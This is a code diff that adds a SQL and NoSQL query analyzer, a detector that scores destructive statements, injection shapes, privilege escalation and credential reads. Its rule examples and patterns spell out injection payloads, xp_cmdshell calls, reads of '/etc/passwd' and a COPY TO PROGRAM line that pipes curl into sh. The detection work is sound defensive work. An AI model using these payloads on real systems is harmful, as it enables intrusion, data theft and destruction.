@@ -1,11 +1,587 @@
-import { plainContext } from '../context.js';
-import type { Analyzer } from '../types.js';
+/**
+ * query analyzer (Q). SQL is lexed (parse/sql-tokens.ts) so comments and string literals are data, not
+ * statements; rules then read statements (DROP/TRUNCATE/unfiltered DELETE, grants) and injection shapes
+ * (tautologies, UNION probes, stacked and time-based payloads), reading injected fragments the way the
+ * vulnerable query would. Scratch tables and non-production environments lower destructive scores.
+ */
+import { normalizeUnicode, percentDecode } from '../normalize.js';
+import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
+import { K, parseSql, whereIsConstant, type SqlParse, type Stmt } from '../parse/sql-tokens.js';
+import type { Analyzer, BaseContext, Finding, Metadata } from '../types.js';
 
-/** query analyzer (Q): rule table pending. */
-const queryAnalyzer: Analyzer = {
+interface QueryContext extends BaseContext {
+  readonly sql: SqlParse;
+  readonly env: Env;
+  /** The value had an odd number of quotes: it reads as an injected fragment, not a whole statement. */
+  readonly fragment: boolean;
+  /** Unicode-normalised, decoded source (comments and strings intact), for injection shapes. */
+  readonly source: string;
+}
+
+const STARTS_STATEMENT = /^\s{0,20}\(?\s{0,5}(?:select|insert|update|delete|with|create|drop|alter|grant|revoke|truncate|exec|execute|call|set|show|copy|begin|merge|replace|explain|use|declare|shutdown|load|values|pragma|vacuum|analyze|comment|lock|rename|kill|do|upsert|start|commit|rollback|refresh|reindex|cluster|listen|notify|deallocate|prepare|fetch|open|close|go)\b/i;
+const DQUOTE = /"/g;
+const SQL_VERB = new Set(['select', 'insert', 'update', 'delete', 'with', 'create', 'drop', 'alter', 'grant', 'revoke', 'truncate', 'begin', 'commit', 'set', 'show', 'copy', 'explain', 'vacuum', 'analyze', 'call', 'exec', 'execute', 'use', 'merge', 'replace', 'values', 'rollback', 'start', 'lock', 'declare']);
+const URL_ESCAPED = /%(?:27|20|3d|3b|22|23|2d|28|29|2f)/i;
+const EXEC_STRING = /\b(?:exec|execute|sp_executesql|prepare)\b/;
+
+function prepare(value: string, metadata: Metadata): QueryContext {
+  // structure comes from the first 64 KB; the rest stays visible (raw) to the keyword prefilter and patterns
+  let source = normalizeUnicode(value.length > 65536 ? value.slice(0, 65536) : value);
+  if (URL_ESCAPED.test(source.slice(0, 4096))) source = percentDecode(source);
+  const extra = metaText(metadata, 'query', 'sql', 'statement');
+  if (extra !== undefined && extra !== value) source = `${source}\n;${normalizeUnicode(extra)}`;
+  let quotes = 0;
+  let dquotes = 0;
+  const scan = Math.min(source.length, 65536);
+  for (let i = 0; i < scan; i++) {
+    const c = source.charCodeAt(i);
+    if (c === 39) quotes++;
+    else if (c === 34) dquotes++;
+  }
+  // `" OR ""="`: a fragment quoted with double quotes breaks out of a "…" literal the same way
+  if (quotes === 0 && dquotes > 0 && !STARTS_STATEMENT.test(source.slice(0, 200))) {
+    source = source.replace(DQUOTE, "'");
+    quotes = dquotes;
+  }
+  // a value that does not open with a statement but carries quotes is an injected fragment: lex it as the
+  // tail of a quoted literal, the way the vulnerable query would see it
+  const fragment = quotes > 0 && !STARTS_STATEMENT.test(source.slice(0, 200));
+  const plain = parseSql(quotes % 2 === 1 ? `${source}'` : source);
+  // which quote the fragment closes is unknown: read it both ways and keep what either reading finds
+  let sql = fragment ? merge(parseSql(`'${source}`), plain) : plain;
+  // dynamic SQL: EXEC('DROP …') runs its string, so read those strings as code too
+  if (EXEC_STRING.test(sql.skeleton.slice(0, 65536))) {
+    const inner: string[] = [];
+    for (const st of sql.stmts) {
+      const toks = st.toks;
+      for (let i = 0; i < toks.length; i++) {
+        if (toks[i]!.k !== K.Str) continue;
+        // 'DR' + 'OP TABLE x' and 'DR' || 'OP …' are one string to the server
+        let joined = toks[i]!.v;
+        while (i + 2 < toks.length && toks[i + 1]!.k === K.Op && (toks[i + 1]!.v === '+' || toks[i + 1]!.v === '||') && toks[i + 2]!.k === K.Str) {
+          joined += toks[i + 2]!.v;
+          i += 2;
+        }
+        if (joined.length > 3) inner.push(joined.replace(/''/g, "'"));
+      }
+    }
+    if (inner.length > 0) {
+      sql = merge(sql, parseSql(inner.join(';\n').slice(0, 65536)));
+    }
+  }
+  if (value.length > 65536) sql = { ...sql, skeleton: `${sql.skeleton} ${value.slice(65536, 65536 + 1048576).toLowerCase()}` };
+  const lowerMeta = (metaText(metadata, 'environment', 'env', 'database', 'db') ?? '').toLowerCase();
+  // `1; SELECT pg_sleep(5)` / `1 UNION SELECT …`: a bare literal before the payload is an injected value
+  const first = sql.stmts[0];
+  const literalLead = first !== undefined && first.toks.length > 0 && first.toks.length <= 3 && sql.stmts.length > 1 && first.toks.every((t) => t.k !== K.Word || !SQL_VERB.has(t.v));
+  return { raw: value, text: sql.skeleton, lower: sql.skeleton, metadata, sql, env: envOf(metadata, lowerMeta), fragment: fragment || literalLead, source };
+}
+
+function merge(a: SqlParse, b: SqlParse): SqlParse {
+  return {
+    stmts: [...a.stmts, ...b.stmts],
+    skeleton: `${a.skeleton} ; ${b.skeleton}`,
+    truncation: a.truncation || b.truncation,
+    tautology: a.tautology ?? b.tautology,
+  };
+}
+
+/** Names that say "scratch data" (dropping or emptying them is housekeeping). */
+const SCRATCH_NAME = /^(?:#|tmp|temp|scratch|staging_|stg_|test_|bak_|backup_|old_)|(?:_tmp|_temp|_old|_bak|_backup|_scratch|_staging)(?:_|$)|_(?:tmp|temp|import|export)_?[0-9]{4}/;
+
+function isScratch(name: string | undefined): boolean {
+  if (name === undefined) return false;
+  const bare = name.includes('.') ? name.slice(name.lastIndexOf('.') + 1) : name;
+  return SCRATCH_NAME.test(bare);
+}
+
+const envScore = (env: Env, prod: number, unknown: number, nonprod: number): number =>
+  env === 'prod' ? prod : env === 'nonprod' ? nonprod : unknown;
+
+const DROP_OBJ = /^drop (?:temporary )?(database|schema|table|keyspace|collection)(?: if exists)? (\S{1,120})/;
+function dropFinding(ctx: QueryContext): Finding | undefined {
+  let best: Finding | undefined;
+  for (const st of ctx.sql.stmts) {
+    const m = DROP_OBJ.exec(st.sk);
+    if (m === null) continue;
+    const kind = m[1]!;
+    const name = m[2]!;
+    if (st.sk.startsWith('drop temporary') || (kind === 'table' && isScratch(name))) continue;
+    const score = kind === 'table' || kind === 'collection' ? envScore(ctx.env, 9, 8, 5) : envScore(ctx.env, 10, 9, 6);
+    if (best === undefined || score > (best.score ?? 0)) best = { detail: `DROP ${kind.toUpperCase()} ${name}${ctx.env === 'prod' ? ' on production' : ''}`, score };
+  }
+  return best;
+}
+
+const TRUNCATE = /^truncate (?:table )?(?:only )?(\S{1,120})/;
+const DELETE_FROM = /^delete (?:from )?(\S{1,120})/;
+const UPDATE_SET = /^update (?:only )?(\S{1,120}) /;
+
+function targetOf(st: Stmt, re: RegExp): string | undefined {
+  const m = re.exec(st.sk);
+  return m === null ? undefined : m[1];
+}
+
+function hasWord(st: Stmt, word: string): boolean {
+  for (const t of st.toks) if (t.k === K.Word && t.v === word) return true;
+  return false;
+}
+
+function unfiltered(ctx: QueryContext, verbRe: RegExp, verb: string, scores: [number, number, number]): Finding | undefined {
+  for (const st of ctx.sql.stmts) {
+    const target = targetOf(st, verbRe);
+    if (target === undefined || isScratch(target)) continue;
+    const constant = whereIsConstant(st.toks);
+    // DELETE … USING / UPDATE … FROM joins still filter in WHERE; a missing WHERE is what matters
+    if (!hasWord(st, 'where')) return { detail: `${verb} on ${target} with no WHERE clause`, score: envScore(ctx.env, ...scores) };
+    if (constant !== undefined) return { detail: `${verb} on ${target} with always-true WHERE ${constant}`, score: envScore(ctx.env, ...scores) + 1 };
+  }
+  return undefined;
+}
+
+const UNION_SELECT = /\bunion (?:all |distinct )?select (.{0,160})/;
+const PAD_ITEM = /^\(? ?(?:null|[0-9]{1,3}|'s'|null :: \w{1,20}|cast \( null as \w{1,20} \)) ?\)?$/;
+/** UNION SELECT NULL,NULL,3: every column a constant, the classic column-count probe. */
+function isPadding(list: string): boolean {
+  let end = list.length;
+  for (const stop of [' from ', ' ; ', ' union ', ' order ', ' limit ']) {
+    const at = list.indexOf(stop);
+    if (at >= 0 && at < end) end = at;
+  }
+  const items = list.slice(0, end).split(',');
+  if (items.length < 2) return items.length === 1 && /^(?:null|[0-9]{1,3})(?: --| #|$)/.test(items[0]!.trim());
+  for (const it of items) if (!PAD_ITEM.test(it.trim())) return false;
+  return true;
+}
+const INJECTED_UNION = /^(?:'s'|-?[0-9]{1,12}|\$p) \)? ?(?:and [^;]{0,40} )?union\b/;
+const RECON = /\b(?:information_schema|pg_catalog|pg_tables|sqlite_master|sysobjects|syscolumns|sys\.tables|all_tables|user_tables|mysql\.user|pg_shadow|version \(|user \(|current_user|database \(|schema \(|group_concat|string_agg|load_file|password|passwd|concat \( 0x[0-9a-f]{1,40}|char \( [0-9]{2,3} ,)|@@(?:version|datadir|hostname|basedir|servername)/;
+
+const CREDENTIAL_TABLE = /\b(?:pg_shadow|pg_authid|mysql\.user|sys\.sql_logins|sys\.syslogins|dba_users|sys\.user\$|master\.\.syslogins|auth_user)\b/;
+const CREDENTIAL_COL = /\b(?:password|passwd|pwd|password_hash|passwordhash|hashed_password|encrypted_password|pass_hash|pw_hash|secret|client_secret|api_key|apikey|api_token|access_token|refresh_token|private_key|otp_secret|totp_secret|mfa_secret|ssn|credit_card|card_number|cvv)\b/;
+const ONE_ROW = /^\S{1,60} = (?:\$p|'s'|[0-9]{1,12})(?: limit 1)?$/;
+/** [select list, first table, rest] of a SELECT skeleton, or undefined. */
+function splitSelect(sk: string): [string, string, string] | undefined {
+  if (!sk.startsWith('select ')) return undefined;
+  const from = sk.indexOf(' from ');
+  if (from < 0) return undefined;
+  let list = sk.slice(7, from);
+  if (list.startsWith('distinct ')) list = list.slice(9);
+  const after = sk.slice(from + 6);
+  const sp = after.indexOf(' ');
+  return [list, sp < 0 ? after : after.slice(0, sp), sp < 0 ? '' : after.slice(sp)];
+}
+
+function credentialRead(ctx: QueryContext): Finding | undefined {
+  for (const st of ctx.sql.stmts) {
+    const sk = st.sk;
+    if (!sk.startsWith('select') && !sk.includes(' union ') && !sk.includes('( select ')) continue;
+    const sys = CREDENTIAL_TABLE.exec(sk);
+    if (sys !== null) return { detail: `reads the database's credential catalogue ${sys[0]}`, score: 8 };
+    let m = splitSelect(sk);
+    let col = m === undefined ? null : CREDENTIAL_COL.exec(m[0]);
+    // subqueries too: ' || (SELECT password FROM users LIMIT 1) || '
+    for (let at = sk.indexOf('( select '), n = 0; col === null && at >= 0 && n < 20; at = sk.indexOf('( select ', at + 9), n++) {
+      m = splitSelect(sk.slice(at + 2));
+      col = m === undefined ? null : CREDENTIAL_COL.exec(m[0]);
+    }
+    if (m === undefined || col === null) continue;
+    // a single-row lookup by key (a login check) is narrower than dumping every hash
+    const w = sk.lastIndexOf(' where ');
+    const narrow = w > 0 && ONE_ROW.test(sk.slice(w + 7)) && !sk.includes(' or ');
+    return { detail: `selects ${col[0]} from ${m[1]}${narrow ? ' for one row' : ' across rows'}`, score: narrow ? 4 : 7 };
+  }
+  return undefined;
+}
+
+const SLEEP_CALL = /\b(?:sleep|pg_sleep|pg_sleep_for|benchmark|dbms_lock\.sleep|dbms_pipe\.receive_message|randomblob) \(|\bwaitfor (?:delay|time)\b/;
+const ROLE_COLUMN = /^(?:role|roles|user_role|is_admin|isadmin|is_superuser|is_staff|admin|superuser|user_type|usertype|account_type|access_level|privilege|privileges|permission_level|group_id|rolname)$/;
+const BOOL_ROLE = /(?:admin|superuser|staff)$/;
+const POWER_VALUE = /^(?:admin|administrator|owner|superuser|super_admin|superadmin|root|sysadmin|god|staff)$/i;
+const COLUMN_PROBE = /^'s' \)? ?(?:order|group) by [0-9]{1,3}\b/;
+const ERROR_BASED = /\b(?:extractvalue|updatexml) \(|\bconvert \( int , \( ?select\b|\bfloor \( rand \( 0 \) \* 2 \)|\bexp \( ~ \( ?select\b|\bgeometrycollection \( \( ?select\b|\bctxsys\.drithsx\.sn \(|\butl_inaddr\.get_host_name \(/;
+const CONDITION_CONTEXT = /\b(?:where|and|or|if|case|when|iif|then)\b/;
+
+const BOUNDED = /\b(?:where|limit|fetch|group|join|offset)\b/;
+const AGGREGATE = /\b(?:count|max|min|sum|avg) \(|^top\b/;
+const PII_TABLE = /^(?:users?|customers?|clients?|patients?|employees?|members?|accounts?|contacts?|persons?|people|profiles?|payments?|credit_cards?|cards?|orders?|subscribers?|leads?|applicants?|students?|auth_users?)$/;
+
+const STACKED = /' ?\)? ?; ?(?:drop|delete|update|insert|exec|execute|shutdown|create|alter|grant|truncate|declare|waitfor|select|copy)\b/i;
+/** The value ends inside a comment (the injected `--` that swallows the rest of the original query). */
+function endsInComment(s: string): boolean {
+  const tail = s.slice(-240);
+  const line = tail.slice(tail.lastIndexOf('\n') + 1);
+  return line.includes('--') || line.includes('#') || line.includes('/*');
+}
+
+const GRANT_BROAD = /^grant (?:all|all privileges|super|file|process|shutdown|create user|reload|dba|sysadmin|control|alter any|impersonate)\b|^grant .{0,200}(?: on \* ?\. ?\*| to public\b| with grant option| with admin option)/;
+const ROLE_POWER = /^(?:alter|create) (?:user|role|login) .{0,200}\b(?:superuser|createrole|bypassrls|replication|sysadmin|dba|db_owner|createdb)\b|^alter (?:server )?role (?:sysadmin|db_owner|securityadmin|dba|rds_superuser|cloudsqlsuperuser|azure_pg_admin) add member|^grant (?:rds_superuser|cloudsqlsuperuser|azure_pg_admin|dba|db_owner|pg_read_server_files|pg_write_server_files|pg_execute_server_program) to\b/;
+
+const ALTER_CRED = /^(?:alter (?:user|role|login)|set password for)\b/;
+const BUILTIN_ADMIN = /^(?:postgres|root|sa|admin|administrator|sys|system|rdsadmin|dbadmin|mysql\.sys)$/i;
+const NOSQL_DESTROY = /\bdb\.dropdatabase \(|\bdb\.[\w$]{1,80}\.drop \( \)|\.(?:deletemany|remove|delete_many) \( \{ \} \)|^flushall\b|^flushdb\b/;
+const NOSQL_OPERATOR = /["']?(?:password|passwd|pass|pwd|username|user|login|email|token)["']?\s{0,3}:\s{0,3}\{\s{0,3}["']?\$(?:ne|gt|gte|lt|regex|nin|exists|in|where)\b|\[\$(?:ne|gt|gte|lt|regex|nin|exists|where)\]/i;
+const NOSQL_WHERE = /["']?\$where["']?\s{0,3}:/i;
+const JS_PAYLOAD = /\b(?:sleep|function|this\.|return|while|process|require)\b/i;
+const SP_ADDROLE = /\bsp_add(?:srv)?rolemember\b/;
+const POWER_ROLE = /^(?:sysadmin|db_owner|securityadmin|serveradmin|dbcreator)$/i;
+const OS_EXEC = /\b(?:xp_cmdshell|sp_oacreate|sp_oamethod|sys_exec|sys_eval|lo_export|dbms_java|xp_regwrite|xp_dirtree|sp_execute_external_script)\b|\b(?:to|from) program\b|\blanguage (?:plpythonu|plpython3u|plperlu|c)\b|\bload_extension \(|\bdbms_scheduler\.create_job\b/;
+const FILE_IO = /\binto (?:outfile|dumpfile)\b|\b(?:load_file|pg_read_file|pg_read_binary_file|pg_ls_dir|pg_stat_file|lo_import|openrowset|opendatasource|bfilename) \(|\butl_file\.|\bload data (?:local )?infile\b|\bbulk insert\b/;
+const COPY_FILE = /^copy .{1,200} to 's'/;
+
+const DISABLE_GUARD = /\bset (?:session |global |@@)?(?:foreign_key_checks|unique_checks) ?= ?(?:0|off|false)\b|\bsession_replication_role ?= ?(?:'s'|replica)|\bdisable (?:trigger|row level security|keys)\b|\bno ?check constraint\b|\bnocheck constraint\b|\bset (?:global |session )?(?:sql_log_bin|general_log|sql_safe_updates) ?= ?(?:0|off|false)\b|\bno force row level security\b|\bpgaudit\.log ?= ?'s'/;
+
+const DROP_COLUMN = /^alter table (?:if exists )?(?:only )?(\S{1,120}) .{0,200}\bdrop (?:column )?(?!constraint|index|primary|foreign|default|not\b|partition|check|key)(\S{1,80})/;
+const DROP_MINOR = /^drop (index|view|materialized view|function|procedure|trigger|sequence|user|role|login|policy|extension|type)\b(?: concurrently)?(?: if exists)? (\S{1,120})/;
+
+const SHUTDOWN = /^shutdown\b|\bpg_terminate_backend \(|^alter system\b|\bpg_ctl\b|^kill (?:query |connection )?[0-9]/;
+
+const queryAnalyzer: Analyzer<QueryContext> = {
   type: 'query',
   letter: 'Q',
-  prepare: plainContext,
-  rules: [],
+  prepare,
+  rules: [
+    {
+      id: 'Q01',
+      name: 'Drop of a database, schema or table',
+      primitive: 'DESTRUCTION',
+      score: 8,
+      keywords: ['drop'],
+      detect: (ctx) => dropFinding(ctx),
+      examples: {
+        flag: ['DROP TABLE users;', 'drop   database  shop', 'DROP/**/TABLE customers', { value: 'DROP SCHEMA public CASCADE', metadata: { environment: 'production' } }],
+        pass: ["SELECT 'DROP TABLE users' AS example", 'DROP TABLE IF EXISTS tmp_import_20240101', '-- drop table users later\nSELECT 1', 'DROP INDEX idx_orders_created'],
+      },
+    },
+    {
+      id: 'Q02',
+      name: 'Table truncation',
+      primitive: 'DESTRUCTION',
+      score: 8,
+      keywords: ['truncate'],
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          const t = targetOf(st, TRUNCATE);
+          if (t !== undefined && !isScratch(t)) return { detail: `TRUNCATE ${t}`, score: envScore(ctx.env, 9, 8, 5) };
+        }
+        return undefined;
+      },
+      examples: {
+        flag: ['TRUNCATE TABLE orders', 'truncate payments cascade;'],
+        pass: ['TRUNCATE TABLE tmp_events_import', "SELECT * FROM logs WHERE message LIKE '%truncate%'"],
+      },
+    },
+    {
+      id: 'Q03',
+      name: 'DELETE without an effective WHERE clause',
+      primitive: 'DESTRUCTION',
+      score: 8,
+      keywords: ['delete'],
+      detect: (ctx) => unfiltered(ctx, DELETE_FROM, 'DELETE', [9, 8, 5]),
+      examples: {
+        flag: ['DELETE FROM customers', 'delete from orders where 1=1', "DELETE FROM users WHERE 'a'='a'"],
+        pass: ['DELETE FROM sessions WHERE expires_at < now()', 'SELECT id FROM users WHERE deleted_at IS NULL', 'DELETE FROM carts WHERE 1=1 AND user_id = $1'],
+      },
+    },
+    {
+      id: 'Q04',
+      name: 'UPDATE without an effective WHERE clause',
+      primitive: 'DESTRUCTION',
+      score: 7,
+      keywords: ['update'],
+      detect: (ctx) => unfiltered(ctx, UPDATE_SET, 'UPDATE', [8, 7, 4]),
+      examples: {
+        flag: ["UPDATE users SET role = 'admin'", "update accounts set balance = 0 where 1 = 1"],
+        pass: ['UPDATE users SET last_login = now() WHERE id = 42', 'SELECT updated_at FROM users', "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2 WHERE t.a = 1"],
+      },
+    },
+    {
+      id: 'Q05',
+      name: 'UNION-based SQL injection',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['union'],
+      pattern: UNION_SELECT,
+      detect: (ctx, m) => {
+        const list = m![1]!;
+        if (isPadding(list)) return `UNION SELECT padded with constant columns: ${list.slice(0, 40)}`;
+        const r = RECON.exec(list);
+        if (r !== null) return `UNION SELECT reaching ${r[0]}`;
+        // UNION appended to an injected value (1' UNION …, -1 UNION …) is injection whatever it selects
+        if (ctx.fragment || INJECTED_UNION.test(ctx.text)) return 'UNION SELECT appended to an injected value';
+        return undefined;
+      },
+      examples: {
+        flag: ["1' UNION SELECT NULL,NULL,NULL--", "SELECT name FROM products WHERE id = 1 UNION ALL SELECT table_name, 2 FROM information_schema.tables", "x' union select username, password from users -- "],
+        pass: ['SELECT id, name FROM customers UNION SELECT id, name FROM leads', 'SELECT a, NULL AS b FROM t1 UNION ALL SELECT c, d FROM t2'],
+      },
+    },
+    {
+      id: 'Q06',
+      name: 'Stacked-query injection',
+      primitive: 'MANIPULATION',
+      score: 8,
+      keywords: [';'],
+      detect: (ctx) => {
+        const m = STACKED.exec(ctx.source.slice(0, 65536));
+        if (m === null) return undefined;
+        if (!ctx.fragment && !endsInComment(ctx.source)) return undefined;
+        return `quote closed then a second statement: ${m[0].replace(/\s+/g, ' ')}`;
+      },
+      examples: {
+        flag: ["'; DROP TABLE users; --", "1'); DELETE FROM orders; #", "Robert'); DROP TABLE students;--"],
+        pass: ["INSERT INTO notes (body) VALUES ('hi'); SELECT count(*) FROM notes;", "UPDATE t SET a = 'x' WHERE id = 2; DELETE FROM q WHERE id = 3"],
+      },
+    },
+    {
+      id: 'Q07',
+      name: 'Tautology or comment-truncation injection',
+      primitive: 'MANIPULATION',
+      score: 8,
+      detect: (ctx) => {
+        if (ctx.sql.tautology !== undefined) return `always-true condition ${ctx.sql.tautology}`;
+        if (ctx.sql.truncation) return 'comment after a quoted value cuts off the rest of the condition';
+        if (ctx.fragment && COLUMN_PROBE.test(ctx.text)) return { detail: 'ORDER BY <n> column-count probe on an injected value', score: 6 };
+        return undefined;
+      },
+      examples: {
+        flag: ["' OR '1'='1", "SELECT * FROM users WHERE name = '' OR 1=1 --'", "admin'--", "SELECT * FROM accounts WHERE id = 7 OR 2>1"],
+        pass: ["SELECT * FROM users WHERE status = 'active' OR status = 'trial'", 'SELECT * FROM t WHERE 1=1 AND org_id = $1', "SELECT * FROM t WHERE a = 'x' -- filter by a"],
+      },
+    },
+    {
+      id: 'Q08',
+      name: 'Database privilege escalation',
+      primitive: 'ESCALATION',
+      score: 8,
+      keywords: ['grant', 'alter user', 'alter role', 'create user', 'create role', 'sp_add', 'alter login', 'create login', 'alter server role'],
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          if (SP_ADDROLE.test(st.sk)) {
+            for (const t of st.toks) if (t.k === K.Str && POWER_ROLE.test(t.v)) return { detail: `${t.v.toLowerCase()} role membership added`, score: 9 };
+          }
+          const r = ROLE_POWER.exec(st.sk);
+          if (r !== null) return { detail: `role/user given superuser-class rights: ${r[0].slice(0, 80)}`, score: 9 };
+          if (ALTER_CRED.test(st.sk) && /\b(?:password|identified)\b/.test(st.sk)) {
+            for (const t of st.toks) {
+              if ((t.k === K.Str || t.k === K.Word) && BUILTIN_ADMIN.test(t.v)) return { detail: `password of built-in admin account ${t.v.toLowerCase()} changed`, score: 5 };
+            }
+          }
+          const g = GRANT_BROAD.exec(st.sk);
+          if (g !== null) return { detail: `broad GRANT: ${g[0].slice(0, 80)}`, score: envScore(ctx.env, 9, 8, 6) };
+        }
+        return undefined;
+      },
+      examples: {
+        flag: ['GRANT ALL PRIVILEGES ON *.* TO \'eve\'@\'%\'', 'ALTER USER app WITH SUPERUSER', 'CREATE ROLE ops LOGIN SUPERUSER PASSWORD \'x\'', "EXEC sp_addsrvrolemember 'bob', 'sysadmin'"],
+        pass: ['GRANT SELECT ON reports.daily TO analyst_ro', "ALTER USER app_ro SET search_path = 'reporting'", "CREATE USER reporting WITH PASSWORD 'x'"],
+      },
+    },
+    {
+      id: 'Q09',
+      name: 'Read of credentials or secrets',
+      primitive: 'EXFILTRATION',
+      score: 7,
+      keywords: ['pass', 'pwd', 'secret', 'key', 'token', 'shadow', 'authid', 'mysql.user', 'logins', 'dba_users', 'auth_user', 'ssn', 'card', 'cvv'],
+      detect: (ctx) => credentialRead(ctx),
+      examples: {
+        flag: ['SELECT username, password FROM users', 'select usename, passwd from pg_shadow', 'SELECT user, authentication_string FROM mysql.user'],
+        pass: ['SELECT id, email FROM users WHERE id = $1', 'UPDATE users SET password_hash = $1 WHERE id = $2', "SELECT count(*) FROM password_resets WHERE created_at > now() - interval '1 day'"],
+      },
+    },
+    {
+      id: 'Q10',
+      name: 'Operating-system command execution from SQL',
+      primitive: 'ESCALATION',
+      score: 9,
+      keywords: ['xp_', 'sp_oa', 'sys_exec', 'sys_eval', 'program', 'lo_export', 'dbms_java', 'language', 'load_extension', 'dbms_scheduler', 'sp_execute_external'],
+      pattern: OS_EXEC,
+      examples: {
+        flag: ["EXEC xp_cmdshell 'whoami'", "COPY (SELECT '') TO PROGRAM 'curl http://x.sh | sh'", "'; exec master..xp_cmdshell 'net user'--"],
+        pass: ['SELECT * FROM programs WHERE id = 3', "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'select a + b'"],
+      },
+    },
+    {
+      id: 'Q11',
+      name: 'Server file read or write through SQL',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['outfile', 'dumpfile', 'load_file', 'pg_read', 'pg_ls_dir', 'pg_stat_file', 'lo_import', 'openrowset', 'opendatasource', 'utl_file', 'infile', 'bulk insert', 'bfilename', 'copy'],
+      detect: (ctx) => {
+        const m = FILE_IO.exec(ctx.text);
+        if (m !== null) return m[0];
+        for (const st of ctx.sql.stmts) {
+          if (COPY_FILE.test(st.sk)) return { detail: 'COPY … TO a server-side file path', score: 5 };
+        }
+        return undefined;
+      },
+      examples: {
+        flag: ["SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'", "SELECT LOAD_FILE('/etc/passwd')", "select pg_read_file('/etc/passwd', 0, 200)"],
+        pass: ['COPY users TO STDOUT WITH CSV HEADER', "SELECT * FROM files WHERE name = 'outfile.txt'"],
+      },
+    },
+    {
+      id: 'Q12',
+      name: 'Time-based blind injection probe',
+      primitive: 'MANIPULATION',
+      score: 8,
+      keywords: ['sleep', 'benchmark', 'waitfor', 'receive_message', 'randomblob'],
+      pattern: SLEEP_CALL,
+      detect: (ctx, m) => {
+        const before = ctx.text.slice(Math.max(0, m!.index - 120), m!.index);
+        if (CONDITION_CONTEXT.test(before) || ctx.fragment || ctx.text.startsWith("'s'")) return `delay function in a condition: ${m![0]}`;
+        return { detail: `delay function call ${m![0]}`, score: 3 };
+      },
+      examples: {
+        flag: ["1' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:10'--", "SELECT * FROM t WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))", "1 AND IF(1=1, BENCHMARK(5000000, MD5('a')), 0)"],
+        pass: ['SELECT * FROM sleep_sessions WHERE user_id = 4', "SELECT avg(sleep_minutes) FROM health_metrics"],
+      },
+    },
+    {
+      id: 'Q13',
+      name: 'Column or schema-object drop',
+      primitive: 'DESTRUCTION',
+      score: 4,
+      keywords: ['drop'],
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          const c = DROP_COLUMN.exec(st.sk);
+          if (c !== null && !isScratch(c[1])) return { detail: `ALTER TABLE ${c[1]} DROP COLUMN ${c[2]}`, score: envScore(ctx.env, 7, 4, 0) };
+          const d = DROP_MINOR.exec(st.sk);
+          if (d !== null && !isScratch(d[2])) {
+            const heavy = d[1] === 'user' || d[1] === 'role' || d[1] === 'login' || d[1] === 'policy';
+            return { detail: `DROP ${d[1]!.toUpperCase()} ${d[2]}`, score: heavy ? envScore(ctx.env, 6, 4, 0) : envScore(ctx.env, 4, 0, 0) };
+          }
+        }
+        return undefined;
+      },
+      examples: {
+        flag: [{ value: 'ALTER TABLE users DROP COLUMN email', metadata: { environment: 'production' } }, 'alter table orders drop column notes', { value: 'DROP INDEX idx_users_email', metadata: { env: 'prod' } }],
+        pass: [{ value: 'DROP INDEX idx_users_email', metadata: { environment: 'staging' } }, 'ALTER TABLE users DROP CONSTRAINT users_email_key', { value: 'ALTER TABLE t DROP COLUMN legacy', metadata: { environment: 'staging' } }],
+      },
+    },
+    {
+      id: 'Q14',
+      name: 'Integrity or audit safeguards disabled',
+      primitive: 'MANIPULATION',
+      score: 5,
+      keywords: ['foreign_key_checks', 'unique_checks', 'replication_role', 'disable', 'check constraint', 'nocheck', 'sql_log_bin', 'general_log', 'sql_safe_updates', 'row level security', 'pgaudit'],
+      pattern: DISABLE_GUARD,
+      detect: (ctx, m) => ({ detail: m![0], score: envScore(ctx.env, 6, 5, 3) }),
+      examples: {
+        flag: ['SET FOREIGN_KEY_CHECKS = 0', 'ALTER TABLE orders DISABLE TRIGGER ALL', "SET session_replication_role = 'replica'", 'ALTER TABLE docs DISABLE ROW LEVEL SECURITY'],
+        pass: ['SET FOREIGN_KEY_CHECKS = 1', 'ALTER TABLE docs ENABLE ROW LEVEL SECURITY'],
+      },
+    },
+    {
+      id: 'Q15',
+      name: 'Unbounded export of a personal-data table',
+      primitive: 'EXFILTRATION',
+      score: 4,
+      keywords: ['select'],
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          const m = splitSelect(st.sk.slice(0, 4000));
+          if (m === undefined) continue;
+          const [list, from, rest] = m;
+          const table = from.includes('.') ? from.slice(from.lastIndexOf('.') + 1) : from;
+          if (!PII_TABLE.test(table)) continue;
+          if (BOUNDED.test(rest) || AGGREGATE.test(list)) continue;
+          if (list === '*' || list.split(',').length >= 4) return `every row of ${from} with ${list === '*' ? 'all columns' : 'many columns'} and no LIMIT`;
+        }
+        return undefined;
+      },
+      examples: {
+        flag: ['SELECT * FROM customers', 'select name, email, phone, address from users'],
+        pass: ['SELECT * FROM customers WHERE id = $1', 'SELECT * FROM users LIMIT 50', 'SELECT count(*) FROM users'],
+      },
+    },
+    {
+      id: 'Q16',
+      name: 'Database server shutdown or session killing',
+      primitive: 'DESTRUCTION',
+      score: 6,
+      keywords: ['shutdown', 'pg_terminate_backend', 'alter system', 'kill'],
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          const m = SHUTDOWN.exec(st.sk);
+          if (m !== null) return { detail: m[0], score: m[0].startsWith('shutdown') ? envScore(ctx.env, 8, 7, 5) : envScore(ctx.env, 6, 4, 2) };
+        }
+        return undefined;
+      },
+      examples: {
+        flag: ['SHUTDOWN', "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'app'"],
+        pass: ["SELECT * FROM pg_stat_activity WHERE state = 'idle'", "SELECT 'shutdown' AS event"],
+      },
+    },
+    {
+      id: 'Q17',
+      name: 'NoSQL mass deletion or operator injection',
+      primitive: 'DESTRUCTION',
+      score: 8,
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          const m = NOSQL_DESTROY.exec(st.sk);
